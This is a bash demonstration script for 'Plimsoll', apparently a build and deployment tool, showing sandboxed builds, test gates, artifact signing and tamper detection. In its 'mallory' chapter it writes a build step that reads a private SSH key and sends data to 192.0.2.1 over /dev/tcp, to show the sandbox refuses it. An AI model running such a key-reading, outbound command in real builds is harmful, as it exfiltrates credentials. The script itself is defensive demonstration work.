#!/usr/bin/env bash
# The demonstration: a small HTTP service with dependencies goes from a commit to a running process, and four things that
# must not happen do not. It only runs commands that you could type, and prints each before it runs it.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=dev/env.sh
. "$here/../env.sh"
PATH="$PLIMSOLL_ROOT/${CARGO_TARGET_DIR:-target}/debug:${CARGO_TARGET_DIR:+$CARGO_TARGET_DIR/debug:}$PATH"

home=$(mktemp -d "${TMPDIR:-/tmp}/plimsoll-demo.XXXXXX")
# Nothing of the person who runs this is read or changed, but for cargo's own configuration.
export CARGO_HOME=${CARGO_HOME:-$HOME/.cargo} RUSTUP_HOME=${RUSTUP_HOME:-$HOME/.rustup}
export HOME=$home PLIMSOLL_STATE=$home/state GIT_CONFIG_NOSYSTEM=1
clean() {
    plimsoll stop shop@local >/dev/null 2>&1 || true
    rm -rf "$home"
}
trap clean EXIT
trap 'exit 130' INT TERM

bold() { if [ -t 1 ]; then printf '\033[1m%s\033[0m\n' "$*"; else printf '%s\n' "$*"; fi; }
chapter() { printf '\n'; bold "== $*"; }
# A command as it could be typed.
show() {
    local word line='$'
    for word in "$@"; do
        case $word in
        '' | *[!A-Za-z0-9_./:@=%+,-]*) line+=" '$word'" ;;
        *) line+=" $word" ;;
        esac
    done
    printf '\n'
    bold "$line"
}
run() {
    show "$@"
    "$@"
}
# A command that must be refused, with this code.
refused() {
    local code=$1 output status=0
    shift
    show "$@"
    output=$("$@" 2>&1) || status=$?
    printf '%s\n' "$output"
    if [ "$status" -eq 0 ] || ! grep -q -- "$code" <<<"$output"; then
        echo "demo: expected a refusal with $code, and the command ended with status $status" >&2
        exit 1
    fi
}
# A port that nobody listens on.
free_port() {
    local port
    for port in $(seq 8080 8180); do
        if ! (exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null; then
            echo "$port"
            return
        fi
    done
    echo "demo: no port from 8080 to 8180 is free" >&2
    return 1
}
port=$(free_port)

chapter "A repository with a small HTTP service, and commits signed by its author"
run ssh-keygen -q -t ed25519 -N '' -C ann@example.org -f "$home/ann"
cp -r "$here/shop" "$home/shop"
rm -rf "$home/shop/target"
cd "$home/shop"
run git config --global user.name Ann
run git config --global user.email ann@example.org
run git config --global gpg.format ssh
run git config --global user.signingKey "$home/ann.pub"
run git config --global commit.gpgSign true
run git init -q -b main
run git add -A
run git commit -q -m 'shop: a small service'

chapter "A delivery repository says what may run: it asks for what this project can show"
run plimsoll init --delivery "$home/delivery" --listen "$port"
run cat "$home/delivery/environments/local/environment.yaml"

chapter "A step that reads a file of the host and calls out gets neither"
run git checkout -q -b mallory
cat >plimsoll.yaml <<EOF
version: 1
project: shop
build:
  toolchain: host
  steps:
    - name: peek
      run: [/bin/bash, -c, 'cat $home/ann; echo hello > /dev/tcp/192.0.2.1/443']
      scratch: [out]
      out: [out/shop]
  artifact: {files: [out/shop]}
evidence:
  - {test: unit, on: source, run: 'true'}
EOF
run git commit -q -am 'peek'
refused E-STEP-FAILED plimsoll run
run plimsoll logs "$(plimsoll --json status | sed -n 's/^ *"run": "\([0-9a-f]\{8\}\).*/\1/p' | head -1)" peek
run git checkout -q main

chapter "A commit that breaks a test builds, and the gate refuses it"
sed -i 's/995/996/' src/lib.rs
run git commit -q -am 'shop: rope costs more'
refused unit plimsoll run
refused E-EVIDENCE-FAILED plimsoll promote shop --to local

chapter "The fixed commit is built, tested and signed, allowed, and started"
run git revert --no-edit HEAD
run plimsoll run
run plimsoll promote shop --to local
run curl --silent --fail "http://127.0.0.1:$port/price/rope/3"
printf '\n'
run plimsoll why shop@local

chapter "Tools that never heard of Plimsoll check its signatures"
id=$(plimsoll --json status | sed -n 's/^ *"run": "\([0-9a-f]\{32\}\)".*/\1/p' | head -1)
run plimsoll export "$id" --to "$home/out"
printf '\n'
bold '$ plimsoll trust key builder > builder.pub'
plimsoll trust key builder >"$home/builder.pub"
cosign_verify=(cosign verify-blob-attestation --key "$home/builder.pub" --insecure-ignore-tlog
    --type https://slsa.dev/provenance/v1 --bundle "$home/out/artifact.sigstore.json")
run "${cosign_verify[@]}" "$home/out/files/shop"
run plimsoll verify "$home/out/artifact.sigstore.json" --subject "$home/out/files/shop"

chapter "The decision and everything it was computed from, in one file, recomputed offline"
run plimsoll dossier shop@local --output "$home/shop.dossier.tar"
run plimsoll verify "$home/shop.dossier.tar" --root "$home/delivery/trust/root.json"

chapter "One flipped byte"
printf '\n'
bold "\$ printf X | dd of=$home/out/files/shop bs=1 seek=4096 conv=notrunc"
chmod u+w "$home/out/files/shop"
printf 'X' | dd of="$home/out/files/shop" bs=1 seek=4096 conv=notrunc status=none
refused E-SUBJECT plimsoll verify "$home/out/artifact.sigstore.json" --subject "$home/out/files/shop"
refused 'subject digest\|not match\|Error' "${cosign_verify[@]}" "$home/out/files/shop"

chapter "From the process back to the commit"
run plimsoll trace shop@local
process=$(plimsoll --json status | sed -n 's/^ *"process": \([0-9]*\).*/\1/p' | head -1)
run sha256sum "/proc/$process/exe"
actual=$(sha256sum "/proc/$process/exe" | cut -d' ' -f1)
if ! plimsoll trace shop@local | grep -q "executes sha256:$actual  as decided"; then
    echo "demo: the trace does not name what process $process executes" >&2
    exit 1
fi
run plimsoll stop shop@local
chapter "Done. Everything of this demonstration is removed again."
